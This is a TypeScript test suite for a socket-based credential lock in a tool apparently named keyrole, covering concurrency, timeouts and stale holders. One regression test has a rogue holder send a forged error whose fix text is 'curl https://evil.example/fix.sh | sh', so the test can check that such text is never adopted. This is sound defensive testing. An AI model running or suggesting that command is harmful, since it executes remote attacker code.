// singleFlight within one process: every call listens on the same socket file, exactly as
// parallel keyrole processes do; and holders that do not keep keyrole's protocol (a raw
// socket server in the lock's place) to show that nothing they send is adopted or printed
// and that one deadline bounds the wait.

import { test, describe } from 'node:test';
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { spawn, spawnSync } from 'node:child_process';
import { existsSync, lstatSync } from 'node:fs';
import * as net from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { lockAddress, singleFlight, waitLimitMs, type HeldLock, type WaitBounds } from '../../src/credentials/lock.ts';
import { KeyroleError } from '../../src/util/errors.ts';
import { tempDir } from '../support/tmp.ts';

const N = 12;
const dir = tempDir('lock-');
const privateDir = () => dir;
// A name no other test file (running in parallel) or keyrole process uses.
const lockName = () => `unit-${process.pid}-${randomBytes(6).toString('hex')}`;

function inodeOf(path: string): number | undefined {
  try {
    return lstatSync(path).ino;
  } catch {
    return undefined;
  }
}

async function settle<T>(p: Promise<T>): Promise<{ ok: true; value: T } | { ok: false; error: unknown }> {
  try {
    return { ok: true, value: await p };
  } catch (error) {
    return { ok: false, error };
  }
}

describe('lockAddress', () => {
  test('a socket file per name in the private directory (no abstract socket: those have no permissions)', async () => {
    const a = await lockAddress('abc', privateDir);
    assert.equal(a, `${dir}/abc.lock`);
    assert.notEqual(await lockAddress('abd', privateDir), a);
  });
});

/** A socket server in the lock's place that does not keep keyrole's protocol. */
async function rawHolder(address: string, onConnection: (s: net.Socket) => void): Promise<net.Server> {
  const server = net.createServer(onConnection);
  await new Promise<void>((r) => server.listen(address, () => r()));
  return server;
}

describe('singleFlight against a holder that does not keep the protocol', () => {
  test('regression: text, error records and exit codes sent on the lock are never adopted', async () => {
    const name = lockName();
    const address = await lockAddress(name, privateDir);
    const server = await rawHolder(address, (s) => {
      s.write('working\nfailed {"code":"Evil","message":"fix: curl https://evil.example/fix.sh | sh","exitCode":0}\n');
      s.write(`${'x'.repeat(100_000)}\nprompt-but-longer-than-any-word\n\x1b]0;title\x07\n`);
      // ...then it lets go, as a holder that failed without a result does.
      setImmediate(() => { s.destroy(); server.close(); });
    });
    let runs = 0;
    const out = await singleFlight(name, () => undefined, async () => { runs++; return 'fetched by the waiter itself'; }, privateDir);
    assert.equal(out, 'fetched by the waiter itself');
    assert.equal(runs, 1);
  });

  test('regression: a holder that alternates prompt/working lines cannot extend the wait past one deadline', async () => {
    const name = lockName();
    const address = await lockAddress(name, privateDir);
    const bounds: WaitBounds = { workingMs: 150, promptMs: 150 };
    const conns = new Set<net.Socket>();
    const server = await rawHolder(address, (s) => {
      conns.add(s);
      let i = 0;
      const t = setInterval(() => s.write(++i % 2 ? 'prompt\n' : 'working\n'), 20);
      s.on('close', () => clearInterval(t));
      s.on('error', () => clearInterval(t));
    });
    try {
      const started = Date.now();
      const r = await settle(singleFlight(name, () => undefined, async () => 'ran', privateDir, bounds));
      const waited = Date.now() - started;
      assert.equal(r.ok, false);
      const err = (r as { error: unknown }).error;
      assert.ok(err instanceof KeyroleError && /^Lock(Timeout|Prompt)$/.test(err.code), String(err));
      assert.ok(waited >= waitLimitMs(bounds) - 5, `gave up after ${waited} ms, before the deadline`);
      // Each state change would have granted a fresh bound: without the one deadline the
      // wait ends only when the holder stops, which here is never.
      assert.ok(waited < waitLimitMs(bounds) + 10_000, `waited ${waited} ms`);
    } finally {
      for (const s of conns) s.destroy();
      await new Promise((r) => server.close(r));
    }
  });

  test('regression: a holder that keeps closing the connection does not make the waiter reconnect forever', async () => {
    const name = lockName();
    const address = await lockAddress(name, privateDir);
    let connections = 0;
    const server = await rawHolder(address, (s) => { connections++; s.destroy(); });
    try {
      const r = await settle(singleFlight(name, () => undefined, async () => 'ran', privateDir));
      assert.equal(r.ok, false);
      const err = (r as { error: unknown }).error;
      assert.ok(err instanceof KeyroleError, String(err));
      assert.equal(err.code, 'LockTimeout');
      assert.ok(connections >= 2 && connections <= 10, `${connections} connections`);
    } finally {
      await new Promise((r) => server.close(r));
    }
  });

  test('a socket file left by a holder killed with SIGKILL is removed and the lock taken at once', async () => {
    const name = lockName();
    const address = await lockAddress(name, privateDir);
    const r = spawnSync(process.execPath, ['-e', `require('node:net').createServer().listen(${JSON.stringify(address)}, () => process.kill(process.pid, 'SIGKILL'))`]);
    assert.equal(r.signal, 'SIGKILL');
    assert.ok(existsSync(address), 'the dead holder left its socket file');
    const started = Date.now();
    assert.equal(await singleFlight(name, () => undefined, async () => 'taken', privateDir), 'taken');
    assert.ok(Date.now() - started < 5000);
    assert.ok(!existsSync(address), 'released: the file is gone');
  });
});

describe('regression: two holders at once (CI, 64 parallel cold calls made two AssumeRoles)', () => {
  // The lock's socket file used to appear at bind(), before listen(): a waiter that
  // connected in between was refused, removed the file as a dead holder's, and took the
  // lock too. Another process takes and releases the lock over and over while this one
  // probes the address as a waiter does; a file that is there and refuses is that window.
  test('whatever is found at the lock address is listening: no refused connection to a file still in place', async () => {
    const name = lockName();
    const address = await lockAddress(name, privateDir);
    const lockModule = new URL('../../src/credentials/lock.ts', import.meta.url).href;
    const rounds = 300;
    const holder = spawn(process.execPath, ['--input-type=module', '-e', `
      import { singleFlight } from ${JSON.stringify(lockModule)};
      for (let i = 0; i < ${rounds}; i++) {
        await singleFlight(${JSON.stringify(name)}, () => undefined, () => new Promise((r) => setImmediate(() => r(i))), () => ${JSON.stringify(dir)});
      }
    `], { stdio: ['ignore', 'ignore', 'pipe'] });
    let stderr = '';
    holder.stderr.on('data', (d: Buffer) => { stderr += d; });
    const exited = new Promise<number | null>((r) => holder.on('close', (c) => r(c)));
    let done = false;
    void exited.then(() => { done = true; });
    let refused = 0;
    let accepted = 0;
    while (!done) {
      const before = inodeOf(address);
      const outcome = await new Promise<string>((r) => {
        const c = net.connect({ path: address });
        c.on('connect', () => { c.destroy(); r('accepted'); });
        c.on('error', (e: NodeJS.ErrnoException) => r(e.code ?? 'error'));
      });
      if (outcome === 'accepted') accepted++;
      if (outcome === 'ECONNREFUSED' && before !== undefined && inodeOf(address) === before) refused++;
    }
    assert.equal(await exited, 0, stderr);
    assert.ok(accepted > 0, 'the probe reached the holder while it held the lock');
    assert.equal(refused, 0, 'a socket file at the lock address refused a connection while it was still there');
  });
});

describe('singleFlight', () => {
  test(`${N} concurrent calls run work exactly once and all get its result`, async () => {
    const name = lockName();
    let stored: string | undefined;
    let runs = 0;
    const work = async () => {
      await delay(150);
      runs++;
      stored = `result-${runs}`;
      return stored;
    };
    const results = await Promise.all(Array.from({ length: N }, () => singleFlight(name, () => stored, work, privateDir)));
    assert.equal(runs, 1);
    assert.deepEqual(results, Array(N).fill('result-1'));
  });

  test('ready() is checked first by the holder: a result already there means no work', async () => {
    let runs = 0;
    const out = await singleFlight(lockName(), () => 'cached', async () => {
      runs++;
      return 'fetched';
    }, privateDir);
    assert.equal(out, 'cached');
    assert.equal(runs, 0);
  });

  test('the lock is free again after a call: a later call takes it and runs its own work', async () => {
    const name = lockName();
    assert.equal(await singleFlight(name, () => undefined, async () => 'a', privateDir), 'a');
    assert.equal(await singleFlight(name, () => undefined, async () => 'b', privateDir), 'b');
  });

  test('a KeyroleError from work reaches every waiter with the same code, and work is not re-run', async () => {
    const name = lockName();
    let runs = 0;
    const work = async (): Promise<string> => {
      runs++;
      await delay(150);
      throw new KeyroleError('AccessDenied', 'STS denied AssumeRole', 'check the trust policy', 3);
    };
    const outcomes = await Promise.all(Array.from({ length: N }, () => settle(singleFlight(name, () => undefined, work, privateDir))));
    assert.equal(runs, 1);
    for (const o of outcomes) {
      assert.equal(o.ok, false);
      const err = (o as { error: unknown }).error;
      assert.ok(err instanceof KeyroleError, String(err));
      assert.equal(err.code, 'AccessDenied');
      assert.equal(err.message, 'STS denied AssumeRole');
      assert.equal(err.fix, 'check the trust policy');
      assert.equal(err.exitCode, 3);
    }
  });

  test('a holder that fails with a plain Error lets one waiter take over; the rest get that result', async () => {
    const name = lockName();
    let stored: string | undefined;
    let runs = 0;
    const work = async () => {
      runs++;
      await delay(150);
      if (runs === 1) throw new Error('crashed');
      stored = 'second';
      return stored;
    };
    const outcomes = await Promise.all(Array.from({ length: 6 }, () => settle(singleFlight(name, () => stored, work, privateDir))));
    assert.equal(runs, 2);
    const failed = outcomes.filter((o) => !o.ok);
    assert.equal(failed.length, 1);
    assert.equal(((failed[0] as { error: unknown }).error as Error).message, 'crashed');
    assert.deepEqual(outcomes.filter((o) => o.ok).map((o) => (o as { value: string }).value), Array(5).fill('second'));
  });

  test('a holder waiting at a prompt makes a waiter fail with LockPrompt once promptMs passes', async () => {
    const name = lockName();
    let waiterRuns = 0;
    let waiterOutcome: Awaited<ReturnType<typeof settle<string>>> | undefined;
    const holder = singleFlight(name, () => undefined, async (lock: HeldLock) => {
      lock.setState('prompt');
      // The waiter can only settle by its prompt bound: the holder keeps the lock until then.
      waiterOutcome = await settle(singleFlight(name, () => undefined, async () => {
        waiterRuns++;
        return 'waiter';
      }, privateDir, { workingMs: 60_000, promptMs: 50 }));
      return 'holder';
    }, privateDir);
    assert.equal(await holder, 'holder');
    assert.equal(waiterRuns, 0);
    assert.ok(waiterOutcome && !waiterOutcome.ok);
    const err = (waiterOutcome as { error: unknown }).error;
    assert.ok(err instanceof KeyroleError, String(err));
    assert.equal(err.code, 'LockPrompt');
    assert.match(err.line(), /^keyrole: another keyrole is waiting for input/);
  });

  test('a holder that is working makes a waiter fail with LockTimeout once workingMs passes', async () => {
    const name = lockName();
    let waiterRuns = 0;
    let waiterOutcome: Awaited<ReturnType<typeof settle<string>>> | undefined;
    const bounds: WaitBounds = { workingMs: 50, promptMs: 60_000 };
    await singleFlight(name, () => undefined, async () => {
      waiterOutcome = await settle(singleFlight(name, () => undefined, async () => {
        waiterRuns++;
        return 'waiter';
      }, privateDir, bounds));
      return 'holder';
    }, privateDir);
    assert.equal(waiterRuns, 0);
    assert.ok(waiterOutcome && !waiterOutcome.ok);
    const err = (waiterOutcome as { error: unknown }).error;
    assert.ok(err instanceof KeyroleError, String(err));
    assert.equal(err.code, 'LockTimeout');
  });

  test('a holder at a prompt is waited for beyond workingMs (the prompt bound applies instead)', async () => {
    const name = lockName();
    let stored: string | undefined;
    let waiter: Promise<string> | undefined;
    const holder = singleFlight(name, () => stored, async (lock: HeldLock) => {
      lock.setState('prompt');
      waiter = singleFlight(name, () => stored, async () => 'waiter ran work', privateDir, { workingMs: 1000, promptMs: 60_000 });
      await delay(2500);
      stored = 'answered';
      return stored;
    }, privateDir);
    assert.equal(await holder, 'answered');
    assert.equal(await waiter, 'answered');
  });

  // MFA: the person takes longer than workingMs to type the code, then the holder calls STS
  // for a moment. The waiter's working deadline was fixed when it started waiting, so the
  // switch back to 'working' finds it already past and the waiter fails at once with
  // LockTimeout ("fetching these credentials for over N s") instead of getting the result.
  test('regression: after a prompt longer than workingMs, a short working phase does not time the waiter out', async () => {
    const name = lockName();
    let stored: string | undefined;
    let waiter: Promise<{ ok: true; value: string } | { ok: false; error: unknown }> | undefined;
    const holder = singleFlight(name, () => stored, async (lock: HeldLock) => {
      lock.setState('prompt');
      waiter = settle(singleFlight(name, () => stored, async () => 'waiter ran work', privateDir, { workingMs: 1000, promptMs: 60_000 }));
      await delay(2500); // the person types the code
      lock.setState('working');
      await delay(200); // the STS call, well under workingMs
      stored = 'answered';
      return stored;
    }, privateDir);
    assert.equal(await holder, 'answered');
    const w = await waiter;
    assert.ok(w, 'the waiter started');
    if (!w.ok) assert.fail(`waiter failed: ${String(w.error)}`);
    assert.equal(w.value, 'answered');
  });
});
